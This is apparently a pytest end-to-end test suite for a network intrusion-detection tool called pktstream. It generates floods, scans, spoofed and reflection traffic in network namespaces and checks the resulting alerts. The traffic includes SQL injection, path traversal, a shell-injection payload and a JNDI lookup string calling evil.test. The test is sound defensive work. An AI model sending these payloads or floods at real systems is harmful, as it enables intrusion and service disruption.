"""``pktstream alerts`` against real packets and the real broker: every detector raises exactly its
alert from attack traffic sent out of network namespaces; a benign mix of the same volume raises
none; a replay gives the same alerts and ids; a consumer SIGKILLed mid-stream neither repeats nor
misses an alert; a flood captured by two hosts (two packet partitions) is seen whole."""

from __future__ import annotations

import base64
import io
import json
import random
import socket
import subprocess
import sys
import threading
import time
import urllib.request
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import yaml
from scapy.layers.inet import ICMP, IP, TCP, UDP, fragment
from scapy.layers.l2 import Ether

from pktstream.consumers.alerts.detectors.amplification import Amplification
from pktstream.consumers.tools.tail import tail
from tests.support.apps import (
    HTTP_PORT,
    LATE_SPOOL,
    alerts_cmd,
    final_figures,
    kill_twice_then_finish,
    log_events,
    read_alerts,
    restart_scenario,
    run_alerts,
    run_clients,
    servers,
    snapshot_blocks,
)
from tests.support.helpers import NetnsHost, sh, split_by_host
from tests.support.producer_proc import ProducerProcess

pytestmark = [pytest.mark.kernel, pytest.mark.kafka]

AMPLIFICATION_PORTS = set(Amplification.defaults["ports"])  # UDP from these is amplification, not udp_flood


def rules(external: list[str]) -> dict[str, Any]:
    """Thresholds a test can reach in seconds; the benign mix must stay under them all the same."""
    return {"external_interfaces": external, "detectors": {
        "syn_flood": {"min_half_open": 500},
        "udp_flood": {"min_packets": 3000},
        "icmp_flood": {"min_packets": 2000},
        "amplification": {"min_packets": 300},
        "volumetric": {"window_s": 1, "warmup_windows": 5, "min_packets": 6000},
        "error_spike": {"window_s": 1, "warmup_windows": 3, "min_errors": 10},
    }}


CATALOG = {"apis": [{"name": "login", "host": "api.shop.test", "method": "POST", "path": "/login",
                     "rate_limit_per_min": 50}]}


def frames_of(h: NetnsHost, pkts: list[Any]) -> list[bytes]:
    return [bytes(Ether(src=h.peer_mac, dst=h.host_mac) / p) for p in pkts]


def fired(docs: list[dict[str, Any]], activity: int = 1) -> list[tuple[str, str]]:
    return sorted((d["unmapped"]["pktstream"]["rule"], d["unmapped"]["pktstream"]["key"]) for d in docs
                  if d["activity_id"] == activity)


def records(bootstrap: str, topic: str) -> list[dict[str, Any]]:
    buf = io.StringIO()
    tail({"bootstrap.servers": bootstrap}, topic, start="beginning", follow=False, out=buf, payload="base64")
    return [json.loads(line) for line in buf.getvalue().splitlines()]


@contextmanager
def capture(bootstrap: str, topic: str, hosts: list[NetnsHost]) -> Iterator[None]:
    prods = [ProducerProcess("--interface", h.host_if, "--bootstrap-servers", bootstrap, "--topic", topic,
                             "--partitions", "2", "--batch-age-ms", "50", "--payload-bytes", "256",
                             env={"PKTSTREAM_HOST_ID": f"cap{i}"}) for i, h in enumerate(hosts)]
    try:
        for p in prods:
            p.wait_event("producer_started")
        yield
        time.sleep(1.0)
    finally:
        rcs = [p.stop() for p in prods]
    assert rcs == [0] * len(prods)


def attack_traffic(a: NetnsHost, b: NetnsHost) -> None:
    victim = a.host_ip
    base = a.peer_ip.rsplit(".", 1)[0]
    rng = random.Random(7)
    flood = [
        *[IP(src=a.peer_ip, dst=victim) / TCP(sport=50000, dport=port, flags="S") for port in range(1, 101)],
        *[IP(src=f"{base}.3", dst=f"{base}.{10 + i}") / TCP(sport=50001, dport=22, flags="S") for i in range(50)],
        *[IP(src=f"52.{rng.randrange(1, 255)}.{rng.randrange(256)}.{rng.randrange(1, 255)}", dst=victim)
          / TCP(sport=rng.randrange(1024, 65535), dport=80, flags="S") for _ in range(1500)],
        *[IP(src=f"{base}.4", dst=victim) / UDP(sport=40000 + i % 50, dport=9999) / (b"x" * 64)
          for i in range(4000)],
        *[IP(src=f"{base}.5", dst=victim) / ICMP(type=8, id=1, seq=i) / (b"p" * 56) for i in range(2500)],
        *[IP(src=f"45.33.32.{10 + i % 40}", dst=victim) / UDP(sport=(53, 123)[i % 2], dport=4444) / (b"a" * 1200)
          for i in range(500)],
        IP(src=victim, dst=victim) / TCP(sport=80, dport=80, flags="S"),
        IP(src="224.0.0.9", dst=victim) / UDP(sport=520, dport=520) / b"rip",
        *[IP(src=f"{base}.6", dst=victim) / TCP(sport=51000, dport=80, flags=fl)
          for fl in ("", "FPU", "SF", "SR", "F") for _ in range(2)],
    ]
    # connection attempts to the HTTP server from 50 addresses of the namespace that no socket uses:
    # the host's SYN-ACKs reach them, and their kernel answers with resets, never an ACK
    for i in range(50):
        a.run("ip", "addr", "add", f"{base}.{100 + i}/24", "dev", a.peer_if)
    attempts = frames_of(a, [IP(src=f"{base}.{100 + i % 50}", dst=victim) / TCP(sport=30000 + i, dport=HTTP_PORT,
                                                                             flags="S") for i in range(600)])
    frames = frames_of(a, flood)
    # the floods are thresholds per 10-s window: send them just after a boundary, so that a burst
    # never straddles one (half in each window would be under the threshold in both)
    while not 0.2 <= time.time() % 10 <= 0.6:
        time.sleep(0.02)
    a.send_frames(frames)
    # (in the next window: connections that the clients' resets close are not half-open for syn_flood)
    time.sleep(10.3 - time.time() % 10)
    a.send_frames(attempts)
    b.send_frames(frames_of(b, [IP(src="10.99.0.1", dst=b.host_ip) / TCP(sport=1234, dport=443, flags="S")
                                for _ in range(3)]))
    # attack strings and a client over its rate limit, over real TCP connections
    attacks = ["/search?q=1%27%20OR%20%271%27=%271", "/static/../../../../etc/passwd",
               "/x?a=${${lower:j}ndi:ldap://evil.test/a}", "/ping?host=127.0.0.1;cat%20/etc/hostname"]
    plan = [{"src": a.peer_ip, "server": victim, "port": HTTP_PORT, "kind": "http", "host": "api.shop.test",
             "requests": [["GET", p]]} for p in attacks]
    plan.append({"src": f"{base}.7", "server": victim, "port": HTTP_PORT, "kind": "http", "host": "api.shop.test",
                 "requests": [["POST", "/login"]] * 80})
    run_clients(a, plan)
    # a service's answers: 40 a second with one 503 for five seconds, then a second with 25 of 40 failing
    flaky = f"{base}.9"
    for sec in range(6):
        t = time.monotonic()
        fails = 25 if sec == 5 else 1
        run_clients(a, [{"src": flaky, "server": victim, "port": HTTP_PORT, "kind": "http", "host": "api.shop.test",
                         "requests": [["GET", "/flaky/fail" if i < fails else "/flaky/ok"] for i in range(40)]}])
        time.sleep(max(0.0, 1.0 - (time.monotonic() - t)))
    # a steady stream to one address for 6 s, then a burst: its volume against its own baseline
    steady = frames_of(a, [IP(src=f"{base}.8", dst=f"{base}.200") / TCP(sport=52000, dport=443, flags="A")
                           for _ in range(300)])
    for _ in range(7):
        t = time.monotonic()
        a.send_frames(steady)
        time.sleep(max(0.0, 1.0 - (time.monotonic() - t)))
    a.send_frames(frames_of(a, [IP(src=f"{base}.8", dst=f"{base}.200") / TCP(sport=20000 + i % 5000, dport=443,
                                                                               flags="A") for i in range(12000)]))


EXPECTED = [
    ("address_sweep", "{base}.3->*:22/tcp"),
    ("amplification", "{victim}"),
    ("error_spike", "{victim}:18080"),  # the flaky second's 503s
    ("http_attack", "jndi_lookup:{peer}->{victim}:18080"),
    ("http_attack", "path_traversal:{peer}->{victim}:18080"),
    ("http_attack", "shell_injection:{peer}->{victim}:18080"),
    ("http_attack", "sql_injection:{peer}->{victim}:18080"),
    ("icmp_flood", "{victim}"),
    ("brute_force", "{base}.7->{victim}:18080"),  # its 80 logins answered 401
    ("port_scan", "{peer}->{victim}"),
    ("rate_limit", "login:{base}.7"),
    ("scan_confirmed", "{peer}->{victim}"),  # the host's resets to the probes of its closed ports
    ("spoofed_source", "LAND->{victim}"),
    ("spoofed_source", "bogon or martian source->{b_victim}"),
    ("spoofed_source", "multicast or broadcast source->{victim}"),
    ("syn_flood", "{victim}"),
    ("synack_unanswered", "{victim}"),  # the 600 attempts on the HTTP server
    ("tcp_flags", "FIN without ACK:{base}.6->{victim}"),
    ("tcp_flags", "NULL:{base}.6->{victim}"),
    ("tcp_flags", "SYN+FIN:{base}.6->{victim}"),
    ("tcp_flags", "SYN+RST:{base}.6->{victim}"),
    ("tcp_flags", "XMAS:{base}.6->{victim}"),
    ("udp_flood", "{victim}"),
    ("volumetric", "destination:{base}.200"),
    ("volumetric", "source:{base}.8"),
]


def test_each_detector_raises_exactly_its_alert_from_real_packets(
        kafka_bootstrap: str, make_host: Callable[..., NetnsHost], tmp_path: Path) -> None:
    a, b = make_host(), make_host()
    topic = f"alerts-e2e-{uuid.uuid4().hex[:8]}"
    rules_file = tmp_path / "rules.yaml"
    rules_file.write_text(yaml.safe_dump(rules([b.host_if])))
    catalog = tmp_path / "catalog.yaml"
    catalog.write_text(yaml.safe_dump(CATALOG))
    with servers(tmp_path), capture(kafka_bootstrap, topic, [a, b]):
        attack_traffic(a, b)
    base = a.peer_ip.rsplit(".", 1)[0]
    expected = sorted((r, k.format(base=base, victim=a.host_ip, peer=a.peer_ip, b_victim=b.host_ip))
                      for r, k in EXPECTED)
    out = run_alerts(alerts_cmd(kafka_bootstrap, topic, f"t-al-{uuid.uuid4().hex[:6]}", f"{topic}.alerts",
                                rules_file, catalog, "--partitions", "3"))
    assert fired(out) == expected
    assert fired(out, 3) == expected  # each closed once, nothing left open
    # one window each: no updates, but where a sliding window took the scanner's later connections
    assert all(d["activity_id"] in (1, 3) for d in out if d["unmapped"]["pktstream"]["rule"] != "port_scan")
    recs = records(kafka_bootstrap, topic)

    def seen(pred: Callable[[dict[str, Any]], bool], alert: dict[str, Any] | None = None) -> int:
        """Captured records that pred accepts (within the window the alert counted, when given:
        traffic that happens to straddle a window boundary is split between two windows)."""
        if alert is not None:
            p = alert["unmapped"]["pktstream"]
            lo = p["window_start"] * 1_000_000
            hi = lo + p["window_s"] * 1_000_000_000
            return sum(1 for r in recs if pred(r) and lo <= r["ts_ns"] < hi)
        return sum(1 for r in recs if pred(r))

    by_key = {(d["unmapped"]["pktstream"]["rule"], d["unmapped"]["pktstream"]["key"]): d
              for d in out if d["activity_id"] == 1}
    victim = a.host_ip
    scan_events = [d["unmapped"]["pktstream"] for d in out if d["activity_id"] in (1, 2)
                   and d["unmapped"]["pktstream"]["key"] == f"{a.peer_ip}->{victim}"]
    assert max(p["distinct"] for p in scan_events) == 101  # ports 1..100 and the HTTP server's
    assert len({d["finding_info"]["uid"] for d in out if d["unmapped"]["pktstream"]["rule"] == "port_scan"}) == 1
    udp = by_key[("udp_flood", victim)]
    assert udp["unmapped"]["pktstream"]["window_count"] == seen(
        lambda r: r["protocol"] == 17 and r["dst_addr"] == victim and r["src_port"] not in AMPLIFICATION_PORTS, udp)
    assert udp["evidences"][0]["src_endpoint"]["ip"] == f"{base}.4"
    assert udp["finding_info"]["attacks"][0]["technique"]["uid"] == "T1498.001"
    assert udp["unmapped"]["pktstream"]["seen_by"] == [f"cap0/{a.host_if}"]
    icmp_doc = by_key[("icmp_flood", victim)]
    icmp = icmp_doc["unmapped"]["pktstream"]
    assert icmp["window_count"] == seen(lambda r: r["protocol"] == 1 and r["src_port"] == 8, icmp_doc)
    sweep = by_key[("address_sweep", f"{base}.3->*:22/tcp")]["unmapped"]["pktstream"]
    assert sweep["distinct"] == 50
    syn = by_key[("syn_flood", victim)]
    lo = syn["unmapped"]["pktstream"]["window_start"] * 1_000_000  # the connections of its window
    hi = lo + syn["unmapped"]["pktstream"]["window_s"] * 1_000_000_000
    flows: dict[tuple[str, int, int], list[int]] = {}
    for r in recs:
        if r["protocol"] == 6 and r["dst_addr"] == victim and lo <= r["ts_ns"] < hi:
            flows.setdefault((r["src_addr"], r["src_port"], r["dst_port"]), []).append(r["tcp_flags"])
    opened = sum(1 for f in flows.values() for x in f if x & 0x12 == 0x02)  # SYNs without ACK
    completed = sum(1 for f in flows.values() if any(x & 0x12 == 0x02 for x in f) and any(x & 0x10 for x in f))
    assert opened - completed >= 1500
    assert syn["message"] == f"{opened - completed} of {opened} connections to {victim} left half-open"
    bogon = by_key[("spoofed_source", f"bogon or martian source->{b.host_ip}")]["unmapped"]["pktstream"]
    assert bogon["window_count"] == 3 and bogon["seen_by"] == [f"cap1/{b.host_if}"]
    jndi = by_key[("http_attack", f"jndi_lookup:{a.peer_ip}->{victim}:18080")]
    assert jndi["evidences"][0]["data"]["path"] == "/x"
    assert jndi["severity_id"] == 4 and jndi["finding_info"]["attacks"][0]["technique"]["uid"] == "T1190"
    # the answers: every reset the host sent to the scanner's closed ports, every 401, every SYN-ACK unanswered
    confirmed = by_key[("scan_confirmed", f"{a.peer_ip}->{victim}")]
    lo = confirmed["unmapped"]["pktstream"]["window_start"] * 1_000_000
    hi = lo + confirmed["unmapped"]["pktstream"]["window_s"] * 1_000_000_000
    reset_ports = {r["src_port"] for r in recs if r["direction"] == 1 and r["dst_addr"] == a.peer_ip
                   and r["protocol"] == 6 and r["tcp_flags"] & 0x04 and lo <= r["ts_ns"] < hi}
    assert confirmed["unmapped"]["pktstream"]["distinct"] == len(reset_ports) >= 90  # 1..100 but what listens
    brute = by_key[("brute_force", f"{base}.7->{victim}:18080")]
    assert brute["unmapped"]["pktstream"]["window_count"] == seen(
        lambda r: r["direction"] == 1 and r["dst_addr"] == f"{base}.7"
        and base64.b64decode(r["payload"]).startswith(b"HTTP/1.1 401 ")) == 80
    assert brute["finding_info"]["attacks"][0]["technique"]["uid"] == "T1110"
    synack = by_key[("synack_unanswered", victim)]
    spoofed = {f"{base}.{100 + i}" for i in range(50)}
    answered = {(r["dst_addr"], r["dst_port"]) for r in recs if r["direction"] == 1 and r["dst_addr"] in spoofed
                and r["tcp_flags"] & 0x12 == 0x12 and r["src_port"] == HTTP_PORT}
    assert len(answered) == 600 and synack["message"].startswith("600 of "), synack["message"]
    spike = by_key[("error_spike", f"{victim}:18080")]
    errors_sent = seen(lambda r: r["direction"] == 1 and r["src_port"] == HTTP_PORT
                       and base64.b64decode(r["payload"]).startswith(b"HTTP/1.1 503 "), spike)
    assert spike["message"].startswith(f"{errors_sent} of ") and errors_sent >= 10, (errors_sent, spike["message"])
    rate_doc = by_key[("rate_limit", f"login:{base}.7")]

    def login(r: dict[str, Any]) -> bool:
        return bool(r["src_addr"] == f"{base}.7" and r["protocol"] == 6
                    and base64.b64decode(r["payload"]).startswith(b"POST /login "))

    assert seen(login) == 80  # every request captured; those of the window the alert counted:
    assert rate_doc["unmapped"]["pktstream"]["window_count"] == seen(login, rate_doc) > 50
    # what was printed is what the topic holds, keyed by alert id
    assert sorted(json.dumps(d, sort_keys=True) for d in read_alerts(kafka_bootstrap, f"{topic}.alerts")) == \
        sorted(json.dumps(d, sort_keys=True) for d in out)
    # a replay (another app id, another partition count): the same alerts with the same ids
    again = run_alerts(alerts_cmd(kafka_bootstrap, topic, f"t-al-{uuid.uuid4().hex[:6]}", f"{topic}.alerts2",
                                  rules_file, catalog, "--partitions", "2"))
    assert sorted(json.dumps(d, sort_keys=True) for d in again) == sorted(json.dumps(d, sort_keys=True) for d in out)


def benign_traffic(c: NetnsHost, tmp_path: Path) -> None:
    base = c.peer_ip.rsplit(".", 1)[0]
    # normal HTTP clients: three addresses, keep-alive connections with a few requests each
    plan = [{"src": f"{base}.{2 + i % 3}", "server": c.host_ip, "port": HTTP_PORT, "kind": "http",
             "host": "api.shop.test", "requests": [["GET", f"/v1/users/{i}"], ["GET", "/v1/orders"]] * 3}
            for i in range(150)]
    run_clients(c, plan)
    # DNS lookups: 2000 queries to a resolver on this host
    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dns.bind((c.host_ip, 53))
    stop = threading.Event()

    def answer() -> None:
        dns.settimeout(0.5)
        while not stop.is_set():
            try:
                q, peer = dns.recvfrom(512)
            except OSError:
                continue
            dns.sendto(q[:2] + b"\x81\x80" + q[4:], peer)

    th = threading.Thread(target=answer, daemon=True)
    th.start()
    query = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x03com\x00\x00\x01\x00\x01")
    c.run(sys.executable, "-c", f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
for i in range(2000):
    s.sendto({query!r}, ({c.host_ip!r}, 53))
    try:
        s.recv(512)
    except OSError:
        pass
""", timeout=120)
    stop.set()
    th.join(2)
    dns.close()
    # a bulk download: 40 MB from a server in the namespace
    (tmp_path / "blob").write_bytes(b"\0" * (40 << 20))
    srv = c.popen(sys.executable, "-m", "http.server", "8000", "--bind", c.peer_ip, "--directory", str(tmp_path))
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                with urllib.request.urlopen(f"http://{c.peer_ip}:8000/blob", timeout=30) as r:
                    assert len(r.read()) == 40 << 20
                break
            except OSError:
                assert time.monotonic() < deadline
                time.sleep(0.2)
    finally:
        srv.terminate()
        srv.wait(10)


def test_benign_mix_of_the_same_volume_raises_nothing(
        kafka_bootstrap: str, make_host: Callable[..., NetnsHost], tmp_path: Path) -> None:
    c = make_host()
    topic = f"alerts-benign-{uuid.uuid4().hex[:8]}"
    rules_file = tmp_path / "rules.yaml"
    rules_file.write_text(yaml.safe_dump(rules([])))
    catalog = tmp_path / "catalog.yaml"
    catalog.write_text(yaml.safe_dump(CATALOG))
    with servers(tmp_path), capture(kafka_bootstrap, topic, [c]):
        benign_traffic(c, tmp_path)
    n = len(records(kafka_bootstrap, topic))
    assert n >= 25000, n  # the attack test's volume is about 24,000 packets
    out = run_alerts(alerts_cmd(kafka_bootstrap, topic, f"t-al-{uuid.uuid4().hex[:6]}", f"{topic}.alerts",
                                rules_file, catalog))
    assert [(d["unmapped"]["pktstream"]["rule"], d["message"]) for d in out] == []


def test_alerts_consumer_killed_mid_stream_neither_repeats_nor_misses(kafka_bootstrap: str, tmp_path: Path) -> None:
    topic, rules_file, catalog = restart_scenario(kafka_bootstrap, tmp_path)
    log: list[dict[str, Any]] = []
    ref = run_alerts(alerts_cmd(kafka_bootstrap, topic, f"t-ref-{uuid.uuid4().hex[:6]}", f"{topic}.ref",
                                rules_file, catalog), log)
    figures = final_figures(log)
    rules_seen = {d["unmapped"]["pktstream"]["rule"] for d in ref}
    assert {"syn_flood", "udp_flood", "port_scan"} <= rules_seen, rules_seen
    assert figures["records_out_of_order"] == LATE_SPOOL and figures["late_records"] == 0
    assert not [d for d in ref if "10.1.0.13" in d["unmapped"]["pktstream"]["key"]]  # the late flood
    late = [e for e in log if e["event"] == "records_out_of_order"]  # said once a minute per capture point
    assert [(e["origin"], e["partition"], e["records"]) for e in late] == [("gen2/eth0", 0, 3000)], late
    assert late[0]["behind_s"] > 100
    syn = [d for d in ref if d["unmapped"]["pktstream"]["rule"] == "syn_flood"]
    assert syn[0]["activity_name"] == "Create" and len({d["finding_info"]["uid"] for d in syn}) == 1
    assert sorted({s for d in syn for s in d["unmapped"]["pktstream"].get("seen_by", [])}) == \
        ["gen0/eth0", "gen1/eth0"]  # both halves met in one partition
    assert any(d["activity_name"] == "Update" for d in ref)

    app = f"t-kill-{uuid.uuid4().hex[:6]}"
    cmd = alerts_cmd(kafka_bootstrap, topic, app, f"{topic}.killed", rules_file, catalog, "--commit-interval-s",
                     "0.2", "--state-part-bytes", "4096")  # snapshots in blocks of 4 KB
    kill_twice_then_finish(cmd, kafka_bootstrap, app, topic)
    got = read_alerts(kafka_bootstrap, f"{topic}.killed")
    assert sorted(json.dumps(d, sort_keys=True) for d in got) == sorted(json.dumps(d, sort_keys=True) for d in ref)
    assert snapshot_blocks(kafka_bootstrap, app)[0] > 1  # what was restored had been written in blocks


def reflection_frames(h: NetnsHost, victim: str, sport: int, payload: int, n: int) -> list[bytes]:
    """n answers of one UDP service to the victim, payload bytes each, from 40 reflectors."""
    return frames_of(h, [IP(src=f"45.33.{i % 40}.{1 + i % 200}", dst=victim) / UDP(sport=sport, dport=40000 + i % 999)
                         / (b"r" * payload) for i in range(n)])


def test_reflection_profiles_and_a_scan_across_a_window_boundary_from_real_packets(
        kafka_bootstrap: str, make_host: Callable[..., NetnsHost], tmp_path: Path) -> None:
    """At default amplification settings: NTP monlist answers (468-byte payloads, 510-byte
    frames), SSDP answers (about 320-byte frames) and DNS answers of 4,000 bytes that arrive as
    IP fragments each raise one amplification alert; time sync, ordinary DNS answers and SSDP
    discovery of a few devices raise none. A scan whose ports straddle a window boundary raises
    one port-scan alert, which the tumbling window of before misses."""
    a = make_host()
    base = a.peer_ip.rsplit(".", 1)[0]
    ntp_v, ssdp_v, dns_v = f"{base}.201", f"{base}.202", f"{base}.203"
    topic = f"alerts-refl-{uuid.uuid4().hex[:8]}"
    scan_rules = {"port_scan": {"window_s": 10, "hop_s": 2}}  # min_ports 15, the default
    rules_file = tmp_path / "rules.yaml"
    rules_file.write_text(yaml.safe_dump({"detectors": scan_rules}))
    tumbling = tmp_path / "tumbling.yaml"
    tumbling.write_text(yaml.safe_dump({"detectors": {"port_scan": {"window_s": 10, "hop_s": 10}}}))
    catalog = tmp_path / "catalog.yaml"
    catalog.write_text(yaml.safe_dump({"apis": []}))
    answers = [IP(src=f"45.34.{i % 30}.{1 + i % 200}", dst=dns_v, id=1000 + i) / UDP(sport=53, dport=33000)
               / (b"d" * 3992) for i in range(250)]
    dns_frames = frames_of(a, [f for ans in answers for f in fragment(ans, fragsize=1480)])
    assert len(dns_frames) == 750  # three fragments per answer, only the first with ports
    attack = [*reflection_frames(a, ntp_v, 123, 468, 700), *reflection_frames(a, ssdp_v, 1900, 278, 800),
              *dns_frames]
    # the benign controls: time sync, ordinary DNS answers, SSDP discovery of four devices
    benign = [*reflection_frames(a, f"{base}.211", 123, 48, 1000), *reflection_frames(a, f"{base}.212", 53, 110, 1500),
              *reflection_frames(a, f"{base}.213", 1900, 278, 12)]
    with capture(kafka_bootstrap, topic, [a]):
        # the attacks (the detector's default min_packets is 500 packets in 10 s), well inside one
        # 10-s window: sent just after a boundary, in well under a second
        while not 0.2 <= time.time() % 10 <= 0.6:
            time.sleep(0.02)
        a.send_frames(attack)
        a.send_frames(benign)
        # 20 ports, one every 0.35 s, the first ten before a 10-s boundary and the rest after it
        while not 6.3 <= time.time() % 10 <= 6.6:
            time.sleep(0.02)
        a.send_frames(frames_of(a, [IP(src=f"{base}.9", dst=f"{base}.204") / TCP(sport=41000, dport=3000 + i, flags="S")
                                    for i in range(20)]), pause_s=0.35)
    recs = records(kafka_bootstrap, topic)
    scan_ts = sorted(r["ts_ns"] for r in recs if r["src_addr"] == f"{base}.9")
    assert len(scan_ts) == 20
    boundary = (scan_ts[0] // 10**10 + 1) * 10**10
    before = sum(1 for t in scan_ts if t < boundary)
    assert 6 <= before <= 14 and scan_ts[-1] < boundary + 10**10  # neither 10-s window holds 15 ports
    out = run_alerts(alerts_cmd(kafka_bootstrap, topic, f"t-refl-{uuid.uuid4().hex[:6]}", f"{topic}.alerts",
                                rules_file, catalog))
    assert fired(out) == sorted([("amplification", ntp_v), ("amplification", ssdp_v), ("amplification", dns_v),
                                 ("port_scan", f"{base}.9->{base}.204")])
    assert fired(out, 3) == fired(out)  # each closed once
    assert len({d["finding_info"]["uid"] for d in out}) == 4  # one alert each
    by_key = {d["unmapped"]["pktstream"]["key"]: d for d in out if d["activity_id"] == 1}
    dns = by_key[dns_v]["unmapped"]["pktstream"]
    assert {t["value"] for t in dns["top"]} == {"53", "fragments"}
    lo, hi = dns["window_start"] * 10**6, (dns["window_start"] + dns["window_s"] * 1000) * 10**6
    # every fragment of the window counted with the answers it belongs to
    assert dns["window_count"] == sum(1 for r in recs if r["dst_addr"] == dns_v and lo <= r["ts_ns"] < hi) > 500
    assert "(NTP)" in by_key[ntp_v]["message"] and "(SSDP)" in by_key[ssdp_v]["message"]
    assert by_key[f"{base}.9->{base}.204"]["unmapped"]["pktstream"]["distinct"] >= 15
    # the same records with the tumbling windows of before: the scan goes unseen
    old = run_alerts(alerts_cmd(kafka_bootstrap, topic, f"t-refl-{uuid.uuid4().hex[:6]}", f"{topic}.alerts2",
                                tumbling, catalog))
    assert ("port_scan", f"{base}.9->{base}.204") not in fired(old)



def test_a_flood_received_at_two_capture_points_on_its_way_raises_the_same_alerts_as_at_one(
        kafka_bootstrap: str, make_host: Callable[..., NetnsHost], tmp_path: Path) -> None:
    """A SYN flood and a UDP flood from the client's namespace to the server's cross this host twice:
    it routes them (a rule for what arrives from the client's link) to a middle namespace, a router
    that sends them back on a third link, from where they go on to the server. A producer on the
    client's link and one on the middle router's link both receive every flood packet (TTL 64 at the
    first, 62 at the second). The alerts of either link alone and of both together (one topic, as a
    fleet writes it) are the same alerts with the same counts (docs/alerts.md, several capture points)."""
    c, s, m = make_host(), make_host(), make_host()
    net = {h.ns: h.peer_ip.rsplit(".", 1)[0] for h in (c, s, m)}
    for h in (c, s, m):  # this host routes between the three (these links only)
        sh("sysctl", "-qw", f"net.ipv4.conf.{h.host_if}.forwarding=1")
    sh("sysctl", "-qw", f"net.ipv4.conf.{m.host_if}.rp_filter=2")  # the client's packets come back on m's link
    s.run("ip", "route", "add", f"{net[c.ns]}.0/24", "via", s.host_ip)
    # the middle router sends what it receives for the server back to this host (no redirects)
    m.run("sysctl", "-qw", f"net.ipv4.conf.{m.peer_if}.forwarding=1")
    m.run("sysctl", "-qw", "net.ipv4.conf.all.send_redirects=0")
    m.run("sysctl", "-qw", f"net.ipv4.conf.{m.peer_if}.send_redirects=0")
    m.run("ip", "route", "add", f"{net[s.ns]}.0/24", "via", m.host_ip)
    topic = f"alerts-twice-{uuid.uuid4().hex[:8]}"
    rules_file = tmp_path / "rules.yaml"
    rules_file.write_text(yaml.safe_dump(rules([])))
    catalog = tmp_path / "catalog.yaml"
    catalog.write_text(yaml.safe_dump(CATALOG))
    rng = random.Random(11)
    # sources in the client's network that no socket uses (the server's answers die there); nothing
    # listens on the server, so its answers are resets and port-unreachables, never SYN-ACKs
    flood = [*[IP(src=f"{net[c.ns]}.{rng.randrange(100, 250)}", dst=s.peer_ip)
               / TCP(sport=rng.randrange(1024, 65535), dport=80, flags="S") for _ in range(800)],
             *[IP(src=f"{net[c.ns]}.4", dst=s.peer_ip) / UDP(sport=40000 + i % 50, dport=9999) / (b"x" * 64)
               for i in range(3500)]]
    pref = str(random.randrange(20000, 30000))
    # (the route goes with m's link; the rule must be deleted, whatever happens from here)
    rule = ["pref", pref, "iif", c.host_if, "to", f"{net[s.ns]}.0/24", "lookup", pref]
    sh("ip", "route", "add", f"{net[s.ns]}.0/24", "via", m.peer_ip, "dev", m.host_if, "table", pref)
    sh("ip", "rule", "add", *rule)
    try:
        with capture(kafka_bootstrap, topic, [c, m]):
            while not 0.2 <= time.time() % 10 <= 0.6:  # inside one 10-s window
                time.sleep(0.02)
            c.send_frames(frames_of(c, flood))
    finally:
        sh("ip", "rule", "del", *rule)
    split_by_host(kafka_bootstrap, topic, ["cap0", "cap1"])
    procs = {t: subprocess.Popen(alerts_cmd(kafka_bootstrap, t, f"t-al-{uuid.uuid4().hex[:6]}", f"{t}.alerts",
                                            rules_file, catalog), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                 text=True)
             for t in (topic, f"{topic}.cap0", f"{topic}.cap1")}
    outs, logs = {}, {}
    for t, p in procs.items():
        out, err = p.communicate(timeout=300)
        assert p.returncode == 0, err[-3000:]
        outs[t] = [json.loads(line) for line in out.splitlines()]
        logs[t] = final_figures(log_events(err))

    def alerts(docs: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
        return sorted((d["unmapped"]["pktstream"]["rule"], d["activity_name"], d["finding_info"]["uid"], d["count"],
                       d["message"]) for d in docs)

    both, client_link, middle_link = (outs[t] for t in (topic, f"{topic}.cap0", f"{topic}.cap1"))
    assert alerts(both) == alerts(client_link) == alerts(middle_link), [
        (t, sorted({(r["direction"], r["ttl"], r["protocol"]) for r in records(kafka_bootstrap, t)}),
         {k: v for k, v in logs[t].items() if isinstance(v, int) and v}) for t in outs]
    creates = {d["unmapped"]["pktstream"]["rule"]: d for d in both if d["activity_id"] == 1}
    assert sorted(creates) == ["syn_flood", "udp_flood"], alerts(both)
    assert creates["syn_flood"]["message"] == f"800 of 800 connections to {s.peer_ip} left half-open"
    assert creates["udp_flood"]["count"] == 3500
    assert creates["syn_flood"]["unmapped"]["pktstream"]["seen_by"] == [f"cap0/{c.host_if}", f"cap1/{m.host_if}"]
    # the evidence is the nearer point's: the middle router's link, two routers on
    assert creates["udp_flood"]["evidences"][0]["data"]["ttl"] == 62
    # what the client's link saw of the floods was left out, counted
    assert logs[topic]["capture_point_duplicates"] > 0
    assert logs[f"{topic}.cap0"]["capture_point_duplicates"] == logs[f"{topic}.cap1"]["capture_point_duplicates"] == 0
